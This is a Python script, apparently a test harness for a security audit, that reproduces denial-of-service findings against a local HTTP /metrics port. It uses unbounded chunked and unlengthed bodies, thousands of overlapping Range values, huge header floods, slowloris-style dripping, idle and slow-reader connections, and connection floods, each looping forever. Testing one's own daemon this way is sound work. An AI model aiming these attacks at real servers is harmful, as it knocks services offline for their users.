"""What nobody does to the HTTP port. usage: http_attacks.py ATTACK PORT [CONNECTIONS]

Never ends by itself; a connection that the daemon closes is made again.
"""

import socket
import sys
import time

MIB = 2**20
GET = b"GET /metrics HTTP/1.1\r\nHost: 127.0.0.1\r\n"
POST = b"POST /metrics HTTP/1.1\r\nHost: 127.0.0.1\r\n"


def connect(port, receive_bytes=0):
    while True:
        client = socket.socket()
        if receive_bytes:
            client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_bytes)
        client.settimeout(10)
        try:
            client.connect(("127.0.0.1", port))
            return client
        except OSError:
            client.close()
            time.sleep(0.05)  # the daemon is being restarted


def send_without_end(port, begin, piece, end=b"", pieces=sys.maxsize):
    """One request after the other; says what each sent and was answered."""
    while True:
        client, sent, answer = connect(port), 0, b""
        try:
            client.sendall(begin)
            for _ in range(pieces):
                client.sendall(piece)
                sent += len(piece)
            client.sendall(end)
        except OSError:
            pass
        try:
            answer = client.recv(MIB)
            while client.recv(MIB):
                pass
        except OSError:
            pass
        client.close()
        print(f"{sent} bytes sent: {answer[:30]!r}", flush=True)


def chunked(port, _):
    """Finding 2: a body in chunks."""
    send_without_end(port, POST + b"Transfer-Encoding: chunked\r\n\r\n", b"100000\r\n" + bytes(MIB) + b"\r\n")


def no_length(port, _):
    """Finding 2: a body of 600 MiB, and no word of its length."""
    send_without_end(port, POST + b"\r\n", bytes(MIB), pieces=600)


def ranges(port, _):
    """Finding 3: the same bytes 2,600 times."""
    send_without_end(port, GET + b"Range: bytes=" + b",".join([b"0-"] * 2600) + b"\r\n\r\n", b"", pieces=1)


def headers(port, _):
    """Finding 4: 300 MiB of headers."""
    send_without_end(port, GET, b"a: b\r\n" * (MIB // 6), end=b"\r\n", pieces=300)


def hold(port, connections, begin=b"", drip=b"", receive_bytes=0):
    """Finding 9: so many connections at once; each sends `drip` and takes 16 bytes, twice a second."""
    held = []
    while True:
        while len(held) < connections:
            client = connect(port, receive_bytes)
            client.setblocking(False)
            try:
                client.send(begin)
            except OSError:
                continue  # its place was given to another meanwhile
            held.append(client)
        time.sleep(0.5)
        for client in list(held):
            try:
                if drip:
                    client.send(drip)
                if client.recv(16) != b"":
                    continue
            except BlockingIOError:
                continue
            except OSError:
                pass
            held.remove(client)
            client.close()


def idle(port, connections):
    """Finding 9: connections that say nothing."""
    hold(port, connections)


def drip_headers(port, connections):
    """Finding 9: headers that come byte by byte."""
    hold(port, connections, begin=GET, drip=b"a")


def slow_readers(port, connections):
    """Finding 9: whole requests, with ranges, whose answers nobody takes."""
    hold(port, connections, begin=GET + b"Range: bytes=" + b",".join([b"0-"] * 1000) + b"\r\n\r\n",
         receive_bytes=2048)


def reconnects(port, _):
    """Connections as fast as they can be made, so that each takes the place of another."""
    held = []
    while True:
        held.append(connect(port))
        if len(held) > 600:
            held.pop(0).close()


def scrapes(port, _):
    """Whole requests as fast as they are answered."""
    send_without_end(port, GET + b"\r\n", b"", pieces=1)


if __name__ == "__main__":
    globals()[sys.argv[1]](int(sys.argv[2]), int(sys.argv[3]) if len(sys.argv) > 3 else 1)
